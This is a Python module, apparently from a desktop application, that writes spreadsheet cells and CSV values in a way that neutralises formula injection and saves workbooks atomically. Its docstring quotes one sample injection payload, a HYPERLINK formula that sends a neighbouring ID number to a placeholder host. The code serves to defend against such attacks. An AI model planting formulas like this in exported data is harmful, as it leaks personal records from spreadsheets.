"""The one way the program writes spreadsheet cells and saves workbooks.

Every value in an exported workbook came from someone's typing or a file someone sent: a citizen
named `=HYPERLINK("http://x/?"&D6,"Xem")` must stay a name, not become a formula that sends the
next row's ID number out when an officer clicks it. openpyxl turns any string starting with `=`
into a formula, and Excel/LibreOffice treat text starting with `+ - @` (and tab/CR before them)
as one when the cell is edited or the file goes through CSV. So:

- `put`/`append` write text as a string cell (never a formula) and mark formula-like text with
  Excel's quote prefix (`'`, shown nowhere, kept on editing); the value itself is unchanged, so
  the file reads back exactly (a refusals file can be corrected and imported again).
- Text no file can hold (lone surrogates, XML-forbidden controls) is written as U+FFFD.
- `csv_value` is the same rule for CSV, which has no types: formula-like text gets a leading
  apostrophe, the convention spreadsheets show as "this is text".
- `save` writes the workbook atomically and cleanly: a full disk leaves neither a half file nor
  a `ZipFile.__del__` traceback on stderr, only an OSError for the caller to word.
"""

from __future__ import annotations

import contextlib
import gc
import logging
import re
import sys
from collections.abc import Iterable, Iterator
from pathlib import Path
from typing import TYPE_CHECKING, Any

from de06desk.domain.files import atomic_write

if TYPE_CHECKING:
    from openpyxl import Workbook
    from openpyxl.cell.cell import Cell, MergedCell
    from openpyxl.worksheet.worksheet import Worksheet

_log = logging.getLogger(__name__)

# What a spreadsheet may read as the start of a formula (OWASP's CSV-injection list).
_FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")
# What no workbook or UTF-8 file can hold: lone surrogates (unencodable; openpyxl would write
# them as character references that make Excel call the whole file damaged) and the C0
# controls XML forbids. Old data may still carry them; they are shown as U+FFFD.
_UNWRITABLE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff]")
# A signed plain number ("-5", "+84 912 345 678") calls nothing and references nothing.
_PLAIN_NUMBER = re.compile(r"[+-]?\d[\d\s.,]*")


def formula_like(text: str) -> bool:
    """Whether a spreadsheet could take `text` for a formula (text to neutralise)."""
    return text.startswith(_FORMULA_START) and not _PLAIN_NUMBER.fullmatch(text)


def put(sheet: Worksheet, row: int, column: int, value: Any) -> Cell | MergedCell:
    """Write `value` to a cell: numbers and dates as themselves, text always as text."""
    cell = sheet.cell(row=row, column=column)
    if isinstance(value, str):
        value = _UNWRITABLE.sub("\ufffd", value)
    cell.value = value
    if isinstance(value, str):
        # openpyxl has just made "=…" a formula; a value from data never is one.
        cell.data_type = "s"
        if formula_like(value):
            cell.quotePrefix = True
    return cell


def append(sheet: Worksheet, values: Iterable[Any]) -> int:
    """Write `values` as a new row below the last one; returns its row number."""
    row = sheet.max_row + 1 if sheet.max_row > 1 or sheet.cell(1, 1).value is not None else 1
    for column, value in enumerate(values, start=1):
        put(sheet, row, column, value)
    return row


def csv_value(value: Any) -> Any:
    """`value` made safe for a CSV cell: formula-like text gets a leading apostrophe."""
    if not isinstance(value, str):
        return value
    value = _UNWRITABLE.sub("\ufffd", value)
    return "'" + value if formula_like(value) else value


def save(book: Workbook, path: Path) -> Path:
    """Save `book` to `path` atomically (`domain.files.atomic_write`: temporary file beside
    it, fsync, one rename).

    On a failure to write (a full disk: ENOSPC, EFBIG) the temporary file is removed, an
    existing file at `path` is untouched, and one OSError is raised. openpyxl leaves a half-used
    zip archive and sheet writers behind, whose finalisers would try to write to the full disk
    again and print "Exception ignored…" tracebacks; they are finalised here, quietly (logged).
    """
    path = Path(path)
    with atomic_write(path) as tmp:
        with _finalisers_logged():
            failure = _write(book, tmp)
            if failure is not None:
                gc.collect()
        if failure is not None:
            raise failure
    return path


def _write(book: Workbook, tmp: Path) -> OSError | None:
    from zipfile import ZIP_DEFLATED, ZipFile

    from openpyxl.writer.excel import ExcelWriter

    try:
        with open(tmp, "wb") as handle:
            archive = ZipFile(handle, "w", ZIP_DEFLATED, allowZip64=True)
            try:
                ExcelWriter(book, archive).write_data()
                archive.close()
            finally:
                # Once closed or failed the archive has nothing left to write; without this its
                # finaliser would write its directory again into a file that failed.
                archive.fp = None
    except OSError as exc:
        # A fresh error without the traceback: the frames holding openpyxl's writers are freed
        # when this handler ends, inside the caller's quiet block.
        return OSError(exc.errno, exc.strerror, str(tmp))
    return None


@contextlib.contextmanager
def _finalisers_logged() -> Iterator[None]:
    previous = sys.unraisablehook

    def log(unraisable: Any) -> None:
        _log.debug("while saving a workbook: %r", unraisable.exc_value)

    sys.unraisablehook = log
    try:
        yield
    finally:
        sys.unraisablehook = previous
